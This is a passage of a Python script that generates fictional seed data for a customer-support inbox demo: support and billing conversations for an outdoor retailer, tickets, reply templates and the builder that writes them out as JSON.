    },
    {
        "key": "duplicate",
        "duplicate_of": "order-status",
        "subject": "Where is my order {order}?",
        "trashed": True,
        "status": "closed",
        "steps": [
            ("in", "Hello, sorry if this arrives twice. Where is my order {order}? Thanks."),
            ("note", "Duplicate of the other thread from this customer; answered there."),
        ],
    },
    {
        "key": "test-mail",
        "subject": "test",
        "trashed": True,
        "status": "closed",
        "steps": [
            ("in", "test test, does this contact form work?"),
        ],
    },
    {
        "key": "damaged-arrival",
        "subject": "Stove arrived dented",
        "product": "Basecamp stove",
        "status": "open",
        "attachments": {0: [("dented-stove.jpg", "image/jpeg", 22_118)]},
        "steps": [
            ("in", "Hello,\n\nThe Basecamp stove from order {order} arrived today with a "
                   "dented burner head; the box was crushed on one corner. Photo attached. I'd "
                   "rather not use it with gas like this."),
            ("out", "Thank you for the photo, and good call not to use it. A new stove is on its "
                    "way today. Please keep the damaged one for a week in case the carrier wants "
                    "to inspect it; after that you can recycle it."),
            ("in", "Thank you, the new one arrived in perfect condition."),
            ("note", "Carrier claim filed with photo, reference DPD-CL-88412."),
            ("out", "Glad to hear it! The carrier doesn't need to inspect the old stove, so feel "
                    "free to recycle it."),
        ],
    },
    {
        "key": "split-delivery",
        "subject": "Only half of order {order} arrived",
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nI received the {product} from order {order}, but the sleeping bag "
                   "from the same order is missing. The packing slip lists both."),
            ("out", "No worries: your order was shipped in two parcels because the sleeping bag "
                    "came from our second warehouse. The second parcel arrives tomorrow; its "
                    "tracking number is {tracking}."),
            ("in", "It's here, thanks!"),
        ],
    },
    {
        "key": "unsubscribe",
        "subject": "Too many newsletters",
        "status": "closed",
        "steps": [
            ("in", "Hello,\n\nI get three Northwind newsletters a week. Can I keep the order "
                   "emails but stop the marketing ones?"),
            ("out", "Of course. I've unsubscribed you from marketing emails; order "
                    "confirmations and shipping updates will still arrive. You can change this "
                    "any time under Account › Email preferences."),
        ],
    },
    {
        "key": "tent-setup",
        "subject": "Alpine 2: which way does the rain fly go?",
        "product": "Alpine 2 tent",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nFirst time setting up the Alpine 2 in the garden. The rain fly "
                   "seems to fit both ways round. Which side does the door zip go?"),
            ("out", "Good question, it's easy to miss: the door zip of the fly goes over the "
                    "side with the red webbing on the inner tent. The small vent should face "
                    "the back, away from the door."),
            ("in", "Got it, the colours make sense now. One more thing: should the guy lines "
                   "be tight or slightly loose?"),
        ],
    },
    # ------------------------------------------------------------------ Billing inbox
    {
        "key": "vat-invoice",
        "subject": "Invoice with our VAT number for order {order}",
        "inbox": "billing",
        "contact": "alessandro.bruno@studiobruno.example",
        "status": "closed",
        "attachments": {1: [("{invoice}.pdf", "application/pdf", 48_311)]},
        "steps": [
            ("in", "Buongiorno,\n\nCould you reissue the invoice for order {order} in the name "
                   "of Studio Bruno S.r.l., VAT IT01234567890? We bought the tents for a team "
                   "retreat."),
            ("out", "Certainly. Attached is the corrected invoice {invoice} made out to Studio "
                    "Bruno S.r.l. with your VAT number. The previous invoice has been "
                    "cancelled."),
            ("in", "Received, grazie!"),
        ],
    },
    {
        "key": "invoice-address",
        "subject": "Billing address wrong on invoice {invoice}",
        "inbox": "billing",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hello,\n\nThe invoice {invoice} for order {order} still shows my old "
                   "address. My accountant needs the current one. Could you correct it?"),
            ("out", "I've corrected the billing address and sent you the updated invoice "
                    "{invoice} as a PDF. Sorry for the trouble."),
        ],
    },
    {
        "key": "bank-transfer",
        "subject": "Paid by bank transfer, order still pending",
        "inbox": "billing",
        "repeat": 2,
        "status": "closed",
        "steps": [
            ("in", "Hi,\n\nI paid {amount} for order {order} by bank transfer on Monday, but "
                   "the order still says \"awaiting payment\"."),
            ("note", "Transfer arrived this morning, reference was missing the order number. "
                     "Matched it manually."),
            ("out", "Thanks for your patience. Your payment arrived this morning; since the "
                    "reference didn't include the order number, I matched it by hand. Order "
                    "{order} is now paid and will ship today."),
        ],
    },
    {
        "key": "double-charge",
        "rep": "u-piotr",
        "subject": "Charged twice for order {order}",
        "inbox": "billing",
        "ticket": "tk-double",
        "status": "open",
        "steps": [
            ("in", "Hello,\n\nMy card was charged twice for order {order} ({amount} each time). "
                   "Please refund one of the payments as soon as possible."),
            ("note", "The payment provider shows one authorisation and one capture, not two "
                     "captures. Need a screenshot of the bank statement to be sure."),
        ],
    },
    {
        "key": "closed-card",
        "subject": "Refund to a card I no longer have",
        "inbox": "billing",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nYou're refunding order {order}, but the card I paid with has been "
                   "cancelled. Where will the money go?"),
            ("out", "Good question. Refunds to a cancelled card are normally forwarded by your "
                    "bank to the replacement card or your account. If your bank rejects it, we "
                    "are notified within 10 days and can pay by bank transfer instead."),
            ("in", "OK, I'll ask my bank to be sure."),
        ],
    },
    {
        "key": "vat-export",
        "subject": "VAT refund for export to Norway",
        "inbox": "billing",
        "contact": "nora.haugen@online.example",
        "status": "open",
        "steps": [
            ("in", "Hei,\n\nI live in Bergen and was charged Dutch VAT on order {order}. As the "
                   "goods were exported to Norway, can I get the VAT refunded?"),
            ("out", "You're right: for deliveries to Norway the EU VAT should not have been "
                    "charged. I'm refunding the VAT part of your order and will send a "
                    "corrected invoice {invoice}."),
        ],
    },
    {
        "key": "pay-later",
        "subject": "Due date of my pay-later invoice",
        "inbox": "billing",
        "status": "open",
        "steps": [
            ("in", "Hi,\n\nI chose \"pay within 30 days\" for order {order}. When exactly is "
                   "the invoice due, from the order date or the delivery date?"),
        ],
    },
    {
        "key": "statement",
        "subject": "October statement of account",
        "inbox": "billing",
        "channel": "fallback",
        "contact": "lukas.mueller@web.example",
        "status": "open",
        "steps": [
            ("in", "Hello,\n\ncould you send us the statement of account for October? We "
                   "can't find invoice {invoice} in our records."),
            ("note", "Came in on the fallback address (not used for sending). Reply from "
                     "billing@northwind.example in a new thread."),
        ],
    },
    {
        "key": "big-csv",
        "subject": "Q3 invoice reconciliation: line items",
        "inbox": "billing",
        "contact": "orders@alpinecorner.example",
        "status": "open",
        "steps": [
            ("in", None),
            ("note", "Huge paste. I've exported it to the finance sheet; 3 lines do not match, "
                     "checking them against our delivery notes."),
            ("out", "Thank you for the complete list. We've matched all lines except three "
                    "(credit notes for returned stoves). I'll send the corrected statement by "
                    "Friday."),
        ],
    },
    {
        "key": "forward",
        "subject": "Fwd: Tent pole snapped on first trip (order {order})",
        "contact": "bartosz.wisniewski@poczta.example",
        "forwarder": "katarzyna.wojcik@poczta.example",
        "product": "Alpine 2 tent",
        "status": "open",
        "steps": [
            ("in", None),
            ("note", "Forward from Katarzyna (office manager); logged on Bartosz, the original "
                     "sender. Replying to him with Katarzyna in Cc."),
            ("out", "Thank you for the report and the clear description. A snapped pole on the "
                    "first trip is a defect: we're sending you a replacement pole section "
                    "today, and you can keep the repair sleeve as a spare."),
        ],
    },
]

TICKETS = {
    "tk-boots": ("Warranty: Trailhead boots sole separation", "waiting_on_us", "high"),
    "tk-parcel": ("Missing parcel marked as delivered", "waiting_on_contact", "medium"),
    "tk-double": ("Double charge on card payment", "new", "urgent"),
    "tk-recall": ("Basecamp stove recall check", "closed", "low"),
    "tk-scouts": ("Group quote: scouting camp Kraków", "new", "medium"),
}

POOLS = {
    "support": ["u-giulia", "u-daan", "u-ana", "u-maria", "u-lars", "u-tomasz"],
    "partners": ["u-sofia"],
    "billing": ["u-piotr", "u-tomasz", "u-giulia"],
}

TEMPLATES = [
    {
        "id": "tpl-order-update",
        "kind": "template",
        "name": "Order status update",
        "subject": "An update on your Northwind order",
        "body_html": "<p>Hi {{contact.first_name}},</p><p>Your order has left our warehouse "
                     "and is on its way. You'll find the tracking link in your shipping "
                     "confirmation.</p><p>Best wishes,<br>{{sender.first_name}}</p>",
    },
    {
        "id": "tpl-return",
        "kind": "template",
        "name": "Return instructions",
        "subject": "How to return your item",
        "body_html": "<p>Hi {{contact.first_name}},</p><p>You can return unused items within "
                     "60 days. Print the prepaid label we've sent you, attach it to the "
                     "original box and drop it at any post office.</p><p>We refund within 5 "
                     "working days after the parcel reaches us.</p><p>{{sender.first_name}}</p>",
    },
    {
        "id": "tpl-refund",
        "kind": "template",
        "name": "Refund issued",
        "subject": "Your refund has been issued",
        "body_html": "<p>Hi {{contact.first_name}},</p><p>We've issued your refund today. "
                     "Depending on your bank it can take 3–5 working days to appear.</p>"
                     "<p>Kind regards,<br>{{sender.full_name}}</p>",
    },
    {
        "id": "tpl-warranty",
        "kind": "template",
        "name": "Warranty claim received",
        "subject": "We've received your warranty claim",
        "body_html": "<p>Hi {{contact.first_name}},</p><p>Thank you for your warranty claim. "
                     "Please send photos of the product, the damage and the size label so our "
                     "product team can assess it.</p><p>{{sender.first_name}} from Northwind</p>",
    },
    {
        "id": "tpl-partner-welcome",
        "kind": "template",
        "name": "Partner programme welcome",
        "subject": "Welcome to the Northwind partner programme",
        "body_html": "<p>Dear {{contact.first_name}},</p><p>Welcome aboard! Attached are our "
                     "price list and brand guidelines. I'm your contact for orders and "
                     "questions.</p><p>{{sender.full_name}}<br>Partner Manager</p>",
    },
    {
        "id": "snip-greeting",
        "kind": "snippet",
        "shortcut": "hi",
        "name": "Greeting",
        "subject": None,
        "body_html": "<p>Hi {{contact.first_name}},</p><p>Thanks for getting in touch.</p>",
    },
    {
        "id": "snip-signoff",
        "kind": "snippet",
        "shortcut": "bye",
        "name": "Sign-off",
        "subject": None,
        "body_html": "<p>Have a great time outdoors!<br>{{sender.first_name}}</p>",
    },
    {
        "id": "snip-return-address",
        "kind": "snippet",
        "shortcut": "returns",
        "name": "Return address",
        "subject": None,
        "body_html": "<p>Northwind Outfitters Returns<br>Kanaalweg 17<br>3526 KL Utrecht<br>"
                     "The Netherlands</p>",
    },
    {
        "id": "snip-size-guide",
        "kind": "snippet",
        "shortcut": "size",
        "name": "Size guide link",
        "subject": None,
        "body_html": '<p>Our <a href="https://northwind.example/size-guide">size guide</a> '
                     "lists body measurements for every product.</p>",
    },
    # Link content of the composer's Insert menu (SPEC §5): documents, meeting links,
    # knowledge base articles and videos. Each inserts its name as a link.
    {
        "id": "doc-price-list",
        "kind": "document",
        "name": "Partner price list 2026",
        "url": "https://files.northwind.example/partners/price-list-2026.pdf",
    },
    {
        "id": "doc-care-guide",
        "kind": "document",
        "name": "Down jacket care guide",
        "url": "https://files.northwind.example/care/down-jacket-care.pdf",
    },
    {
        "id": "meet-support-call",
        "kind": "meeting_link",
        "name": "15-minute support call",
        "url": "https://meet.northwind.example/support/15min",
    },
    {
        "id": "meet-partner-review",
        "kind": "meeting_link",
        "name": "Partner account review (30 min)",
        "url": "https://meet.northwind.example/partners/review",
    },
    {
        "id": "kb-returns",
        "kind": "knowledge_base",
        "name": "How returns and refunds work",
        "url": "https://help.northwind.example/articles/returns-and-refunds",
        "summary": "60-day returns with a prepaid label; refunds within 5 working days of "
                   "arrival.",
    },
    {
        "id": "kb-warranty",
        "kind": "knowledge_base",
        "name": "Making a warranty claim",
        "url": "https://help.northwind.example/articles/warranty-claims",
        "summary": "What the two-year warranty covers and which photos to send.",
    },
    {
        "id": "kb-tent-seams",
        "kind": "knowledge_base",
        "name": "Resealing tent seams",
        "url": "https://help.northwind.example/articles/resealing-tent-seams",
        "summary": "Step-by-step seam sealing for Alpine and Ridge tents.",
    },
    {
        "id": "video-tent-pitch",
        "kind": "video",
        "name": "Pitching the Alpine 2 tent",
        "url": "https://video.northwind.example/watch/alpine-2-pitch",
    },
    {
        "id": "video-stove",
        "kind": "video",
        "name": "Basecamp stove: first use",
        "url": "https://video.northwind.example/watch/basecamp-stove",
    },
]

# --------------------------------------------------------------------------------------------
# Building conversations and messages
# --------------------------------------------------------------------------------------------


def big_csv_body() -> str:
    """A partner pastes their whole Q3 order ledger into the mail (the >100 KB message)."""
    header = ("Hello,\n\nbelow is our complete Q3 purchase ledger as exported from our shop "
              "system, so you can reconcile it against your invoices. Please tell us which "
              "lines don't match.\n\n")
    lines = ["date;invoice;sku;description;qty;unit_price_eur;line_total_eur;delivery_note"]
    skus = [("NW-TENT-A2", "Alpine 2 tent", 209.40), ("NW-PACK-R45", "Ridgeline 45L", 107.40),
            ("NW-JKT-FJ", "Fjord insulated jacket", 137.40),
            ("NW-BOOT-TH", "Trailhead boots", 113.40),
            ("NW-BAG-SM", "Summit down bag", 173.40), ("NW-SHELL-C", "Cascade shell", 95.40),
            ("NW-STOVE-B", "Basecamp stove", 41.40), ("NW-LAMP-L4", "Lumen 400", 29.40),
            ("NW-POLE-C", "Carbon poles", 71.40), ("NW-MER-SET", "Merino set", 59.40)]
    footer = "\n\nThanks in advance,\nAlpine Corner – accounts\n"
    body = header
    row = 0
    while len(body.encode()) < BIG_MESSAGE_MIN_BYTES:
        row += 1
        month = 7 + (row * 3) // 1000
        day = 1 + (row * 7) % 28
        sku, name, price = skus[rng.randrange(len(skus))]
        qty = rng.randint(1, 12)
        lines.append(
            f"2026-{month:02d}-{day:02d};INV-2026-{4000 + row // 6:05d};{sku};{name};{qty};"
            f"{price:.2f};{qty * price:.2f};DN-{70000 + row}"
        )
        body = header + "\n".join(lines) + footer
    return body


def forward_body(original: dict, forwarder: dict, order: str, sent: int) -> str:
    when = datetime.fromtimestamp(sent / 1000, tz=timezone.utc)
    date_line = when.strftime("%a, %-d %b %Y at %H:%M")
    return (
        f"Hi Northwind,\n\nForwarding this from my colleague Bartosz, he asked me to pass it "
        f"on since I placed the order for our office. Could you help him?\n\nKasia\n\n"
        f"---------- Forwarded message ---------\n"
        f"From: {original['name']} <{original['email']}>\n"
        f"Date: {date_line}\n"
        f"Subject: Tent pole snapped on first trip (order {order})\n"
        f"To: {forwarder['name']} <{forwarder['email']}>\n\n"
        f"Hi Kasia,\n\none of the poles of the Alpine 2 tent we bought through the office "
        f"snapped on our very first night out, just above the second joint. We pitched it "
        f"exactly as in the manual, no wind to speak of. Could you forward this to Northwind? "
        f"I have photos if they need them.\n\nThanks,\nBartosz"
    )


def mailbox(name, address):
    return {"name": name, "address": address}


def raw_size(msg: dict) -> int:
    """Bytes of the message as it would travel: headers, bodies, base64 attachments."""
    def fmt(box):
        return f"{box['name']} <{box['address']}>" if box["name"] else box["address"]

    headers = [
        f"From: {fmt(msg['from'])}",
        "To: " + ", ".join(fmt(b) for b in msg["to"]),
        f"Subject: {msg['subject']}",
        "Date: " + format_datetime(datetime.fromtimestamp(msg["date"] / 1000, timezone.utc)),
        "MIME-Version: 1.0",
        "Content-Type: multipart/alternative; boundary=\"sb-boundary\"",
    ]
    if msg["cc"]:
        headers.append("Cc: " + ", ".join(fmt(b) for b in msg["cc"]))
    if msg["message_id"]:
        headers.append(f"Message-ID: <{msg['message_id']}>")
    if msg["in_reply_to"]:
        headers.append(f"In-Reply-To: <{msg['in_reply_to']}>")
    if msg["references"]:
        headers.append("References: " + " ".join(f"<{r}>" for r in msg["references"]))
    size = len("\r\n".join(headers).encode()) + 4
    size += len(msg["text_body"].encode()) + 120
    if msg["html_body"]:
        size += len(msg["html_body"].encode()) + 120
    for att in msg["attachments"]:
        size += (att["size"] + 2) // 3 * 4 + 200
    return size


def render_tokens(markup: str, uid: str) -> str:
    user = USER_BY_ID[uid]
    return (markup.replace("{{sender.full_name}}", full_name(uid))
            .replace("{{sender.first_name}}", user["first_name"])
            .replace("{{sender.last_name}}", user["last_name"]))


class Builder:
    def __init__(self):
        self.used_orders: set[str] = set()
        self.pool_cursor = {name: 0 for name in POOLS}
        self.contact_queue: list[dict] = []
        self.conversations: list[dict] = []
        # Contact and text variables of the latest conversation built from each scenario.
        self.built: dict[str, tuple[dict, dict, int]] = {}

    def next_contact(self) -> dict:
        if not self.contact_queue:
            free = [c for c in CONTACTS if c["email"] not in RESERVED_CONTACTS]
            rng.shuffle(free)
            self.contact_queue = free
        return self.contact_queue.pop()

    def next_rep(self, pool: str) -> str:
        reps = POOLS[pool]
        rep = reps[self.pool_cursor[pool] % len(reps)]
        self.pool_cursor[pool] += 1
        return rep

    def order_number(self) -> str:
        while True:
            order = f"NW-{rng.randint(10400, 10999)}"
            if order not in self.used_orders:
                self.used_orders.add(order)
                return order

    def variables(self, scenario: dict, contact: dict) -> dict:
        if "product" in scenario or "products" in scenario:
            choices = scenario.get("products") or [scenario["product"]]
            product = choices[rng.randrange(len(choices))]
            price = dict(PRODUCTS)[product]
        else:
            product, price = PRODUCTS[rng.randrange(len(PRODUCTS))]
        first = contact["name"].split()[0] if contact["name"] else "there"
        return {
            "first": first,
            "order": self.order_number(),
            "product": product,
            "amount": f"€{price:.2f}",
            "tracking": f"0{rng.randint(10**13, 10**14 - 1)}",
            "invoice": f"INV-2026-{rng.randint(3000, 4999):05d}",
        }

    def timeline(self, scenario: dict, steps: list, after: int | None = None) -> list[int]:
        gaps = []
        previous = None
        for kind, _ in steps:
            if previous is None:
                gaps.append(0)
            elif kind == "note":
                gaps.append(rng.randint(5, 90) * MINUTE)
            elif kind == "out":
                gaps.append(rng.randint(30, 20 * 60) * MINUTE)
            else:
                gaps.append(rng.randint(60, 30 * 60) * MINUTE)
            previous = kind
        span = sum(gaps)
        latest_start = DEMO_NOW - span - rng.randint(10, 180) * MINUTE
        if after is not None:
            start = after + rng.randint(3, 40) * MINUTE
        elif "start_days_ago" in scenario:
            start = DEMO_NOW - scenario["start_days_ago"] * DAY + rng.randint(0, 6) * HOUR
        else:
            earliest = DEMO_NOW - 29 * DAY
            start = rng.randint(earliest, max(earliest, latest_start))
        start -= start % 1000  # whole seconds, as in a Date header
        times, t = [], start
        for gap in gaps:
            t += gap
            times.append(t)
        assert times[-1] < DEMO_NOW, scenario["key"]
        return times

    def build(self, scenario: dict) -> None:
        inbox_key = scenario.get("inbox", "support")
        inbox = f"inbox-{inbox_key}"
        channel_kind = scenario.get("channel", "email" if inbox_key == "billing" else "fallback")
        chan = CHANNEL_BY_ID[f"ch-{inbox_key}-{channel_kind}"]
        pool = scenario.get("pool", "billing" if inbox_key == "billing" else "support")
        if "duplicate_of" in scenario:
            # The same customer writing again about the same order.
            contact, v, original_start = self.built[scenario["duplicate_of"]]
        else:
            contact = (CONTACT_BY_EMAIL[scenario["contact"]] if "contact" in scenario
                       else self.next_contact())
            v = self.variables(scenario, contact)
        steps = scenario["steps"]
        has_reply = any(kind != "in" for kind, _ in steps)
        if "rep" in scenario:
            rep = scenario["rep"]
        else:
            rep = self.next_rep(pool) if has_reply or rng.random() < 0.3 else None
        if "duplicate_of" in scenario:
            times = self.timeline(scenario, steps, after=original_start)
        else:
            times = self.timeline(scenario, steps)
        self.built[scenario["key"]] = (contact, v, times[0])
        subject = scenario["subject"].format(**v)
        contact_box = mailbox(contact["name"], contact["email"])
        channel_box = mailbox(chan["display_name"], chan["address"])
        fallback = INBOX_BY_ID[inbox]["fallback"]

        thread_ids: list[str] = []
        msgs = []
        for index, ((kind, text), date) in enumerate(zip(steps, times)):
            html_body = None
            attachments = [
                {"file_name": name.format(**v), "content_type": ctype, "size": size}
                for name, ctype, size in scenario.get("attachments", {}).get(index, [])
            ]
            cc = []
            if kind == "in":
                sender = contact_box
                if scenario["key"] == "big-csv":
                    text_body = big_csv_body()
                elif scenario["key"] == "forward":
                    forwarder = CONTACT_BY_EMAIL[scenario["forwarder"]]
                    sender = mailbox(forwarder["name"], forwarder["email"])
                    text_body = forward_body(contact, forwarder, v["order"], date - 2 * HOUR)
                elif index in scenario.get("html_in", {}):
                    html_body = scenario["html_in"][index]
                    text_body = html_to_text(html_body)
                else:
                    text_body = text.format(**v)
                    if contact["name"] and index == 0:
                        text_body += "\n\n" + contact["name"].split()[0]
                    if rng.random() < 0.25:
                        html_body = paragraphs_html(text_body)
                msg_subject = subject if index == 0 else "Re: " + subject
                to = [channel_box]
                author = None
                message_id = new_message_id("mail.example")
            elif kind == "out":
                greeting = f"Hi {v['first']}," if contact["name"] else "Hello,"
                body = text.format(**v)
                if not scenario.get("greeting", True):
                    greeting, body = body.split("\n\n", 1) if "\n\n" in body else (body, "")
                if chan["kind"] == "fallback":
                    # Team signature of the fallback email, resolved for the sending rep.
                    sig_html = render_tokens(fallback["signature_html"], rep)
                    html_body = paragraphs_html(greeting + "\n\n" + body) + sig_html
                    sender = mailbox(fallback_from_name(fallback, rep), chan["address"])
                else:
                    closing = f"Best regards,\n{full_name(rep)}"
                    html_body = paragraphs_html(greeting + "\n\n" + body + "\n\n" + closing)
                    sender = channel_box
                text_body = html_to_text(html_body)
                msg_subject = "Re: " + subject
                to = [contact_box]
                if scenario["key"] == "forward":
                    forwarder = CONTACT_BY_EMAIL[scenario["forwarder"]]
                    cc = [mailbox(forwarder["name"], forwarder["email"])]
                author = rep
                message_id = new_message_id("northwind.example")
            else:
                text_body = text.format(**v)
                sender = mailbox(full_name(rep), USER_BY_ID[rep]["email"])
                msg_subject = subject
                to = []
                author = rep
                message_id = None
            msg = {
                "id": None,
                "conversation": None,
                "direction": {"in": "incoming", "out": "outgoing", "note": "comment"}[kind],
                "from": sender,
                "to": to,
                "cc": cc,
                "bcc": [],
                "subject": msg_subject,
                "date": date,
                "text_body": text_body,
                "html_body": html_body,
                "attachments": attachments,
                "message_id": message_id,
                "in_reply_to": thread_ids[-1] if message_id and thread_ids else None,
                "references": list(thread_ids) if message_id else [],
                "size": 0,
                "author": author,
            }
            msg["size"] = raw_size(msg)
            if message_id:
                thread_ids.append(message_id)
            msgs.append(msg)

        assignee = rep
        quick_answer = has_reply and scenario["status"] == "closed" and "ticket" not in scenario
        if quick_answer and rng.random() < 0.35:
            assignee = None  # closed quick answers are often left unassigned
        if scenario.get("trashed"):
            assignee = None
        conversation = {
            "id": None,
            "inbox": inbox,
            "area": "help_desk" if "ticket" in scenario else "inbox",
            "channel": chan["id"],
            "contact": contact["id"],
            "subject": subject,
            "status": scenario["status"],
            "assignee": assignee,
            "ticket": scenario.get("ticket"),
            "created_at": times[0],
            "last_activity": times[-1],
            "snippet": snippet(msgs[-1]["text_body"]),
            "message_count": len(msgs),
            "trashed_at": (times[-1] + rng.randint(5, 120) * MINUTE
                           if scenario.get("trashed") else None),
        }
        if conversation["trashed_at"] is not None:
            conversation["trashed_at"] = min(conversation["trashed_at"], DEMO_NOW - MINUTE)
        self.conversations.append((conversation, msgs))


def fallback_from_name(fallback: dict, uid: str) -> str:
    if fallback["from_name_mode"] == "agent_and_company":
        return f"{full_name(uid)} from {fallback['company_name']}"
    return fallback["company_name"]


def main() -> None:
    builder = Builder()
    for scenario in SCENARIOS:
        for _ in range(scenario.get("repeat", 1)):
            builder.build(scenario)

    builder.conversations.sort(key=lambda pair: pair[0]["created_at"])
    conversations, messages = [], []
    for number, (conversation, msgs) in enumerate(builder.conversations, start=1):
        conversation["id"] = f"conv-{number:03d}"
        conversations.append(conversation)
        for msg in msgs:
            msg["conversation"] = conversation["id"]
            messages.append(msg)
    for number, msg in enumerate(messages, start=1):
        msg["id"] = f"m-{number:04d}"

    tickets = []
    for tid, (name, status, priority) in TICKETS.items():
        linked = [c for c in conversations if c["ticket"] == tid]
        assert linked, tid
        tickets.append({
            "id": tid,
            "name": name,
            "pipeline": "Support Pipeline",
            "status": status,
            "priority": priority,
            # SPEC §6: the conversation owner is the ticket owner.
            "owner": linked[0]["assignee"],
            "conversations": [c["id"] for c in linked],
            "created_at": min(linked[0]["created_at"] + 25 * MINUTE, DEMO_NOW - MINUTE),
            "trashed_at": None,
        })

    assigned = {c["assignee"] for c in conversations}
    missing = [u["id"] for u in USERS if u["id"] not in assigned]
    assert not missing, f"users without an assigned conversation: {missing}"

    data = {
        "workspace": WORKSPACE,
        "users": USERS,
        "teams": TEAMS,
        "contacts": CONTACTS,
        "inboxes": INBOXES,
        "channels": CHANNELS,
        "conversations": conversations,
        "messages": messages,
        "tickets": tickets,
        "templates": TEMPLATES,
    }
    OUT_PATH.parent.mkdir(parents=True, exist_ok=True)
    text = json.dumps(data, ensure_ascii=False, separators=(",", ":"))
    OUT_PATH.write_text(text + "\n", encoding="utf-8")
    print(f"wrote {OUT_PATH} ({len(text.encode()):,} bytes, {len(conversations)} conversations, "
          f"{len(messages)} messages)")


if __name__ == "__main__":
    main()
